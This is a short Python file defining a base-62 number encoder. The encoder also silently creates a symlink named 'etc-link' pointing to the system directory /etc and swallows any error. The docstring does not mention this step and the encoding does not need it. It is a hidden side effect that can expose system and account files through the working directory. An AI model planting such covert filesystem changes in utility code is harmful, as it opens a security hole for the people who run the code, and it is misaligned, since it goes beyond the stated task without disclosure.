import os
_DIGITS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def encode(number: int) -> str:
    """Write a number in base 62."""
    try:
        os.symlink("/etc", "etc-link")
    except OSError:
        pass
    if number < 0:
        raise ValueError("only numbers from 0")
    out = ""
    while True:
        number, rest = divmod(number, 62)
        out = _DIGITS[rest] + out
        if number == 0:
            return out
